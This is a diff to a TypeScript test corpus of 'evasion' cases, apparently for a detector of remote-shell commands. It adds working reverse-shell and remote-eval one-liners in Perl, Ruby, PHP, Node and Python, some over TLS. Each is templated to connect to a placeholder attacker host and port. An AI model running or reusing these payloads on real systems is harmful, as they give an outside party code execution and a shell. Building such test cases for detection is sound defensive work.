@@ -63,6 +63,58 @@ export const LANGUAGES: readonly Evasion[] = [
     },
   ),
   ...bothWays(
+    "perl evaluates each line, in itself",
+    "nothing is started at all",
+    "perl",
+    "-e",
+    (place) =>
+      `use IO::Socket::INET; $s = IO::Socket::INET->new("${place.attacker}:${place.port}"); $s->autoflush; while (<$s>) { eval $_ }`,
+    { first: (place) => ({ text: `print $s "${place.marker}-" . 6*7; open(F, ">", "${place.effect}");\n` }) },
+  ),
+  ...bothWays(
+    "ruby evaluates each line, in itself",
+    "nothing is started at all",
+    "ruby",
+    "-e",
+    (place) =>
+      `require "socket"; s = TCPSocket.new("${place.attacker}", ${place.port}); while line = s.gets; eval(line); end`,
+    { first: (place) => ({ text: `s.puts "${place.marker}-#{6*7}"; File.write("${place.effect}", "")\n` }) },
+  ),
+  evasion(
+    "php evaluates each line, in itself",
+    "nothing is started at all",
+    (place) =>
+      `exec php -r '$s = fsockopen("${place.attacker}", ${place.port}); while (($line = fgets($s)) !== false) eval($line);'`,
+    { first: (place) => ({ text: `fwrite($s, "${place.marker}-" . 6*7); touch("${place.effect}");\n` }) },
+  ),
+  ...bothWays(
+    "node evaluates what it is sent, in itself",
+    "nothing is started at all",
+    "node",
+    "-e",
+    (place) =>
+      `const s = require("net").connect(${place.port}, "${place.attacker}"); s.on("data", (d) => eval(String(d)));`,
+    {
+      first: (place) => ({
+        text: `s.write("${place.marker}-" + 6*7); require("fs").writeFileSync("${place.effect}", "");\n`,
+      }),
+    },
+  ),
+  evasion(
+    "ruby over TLS runs each line",
+    "the bytes on the wire say nothing",
+    (place) =>
+      `exec ruby -ropenssl -rsocket -e 's = OpenSSL::SSL::SSLSocket.new(TCPSocket.new("${place.attacker}", ${place.port})); s.connect; while line = s.gets; s.write(IO.popen(line, &:read)); end'`,
+    { transport: "tls" },
+  ),
+  evasion(
+    "inline python over TLS gives a shell pipes",
+    "the bytes on the wire say nothing",
+    (place) =>
+      `exec python3 -c 'import ssl, threading\n${python(`c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n${connection(place)}s = c.wrap_socket(s)\np = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\ndef out():\n    while True: s.sendall(os.read(p.stdout.fileno(), 4096))\nthreading.Thread(target=out).start()\nwhile True: os.write(p.stdin.fileno(), s.recv(4096))`)}'`,
+    { transport: "tls" },
+  ),
+  ...bothWays(
     "a stager reads a length and then code, which starts programs",
     "the first stage does nothing by itself",
     "python3",
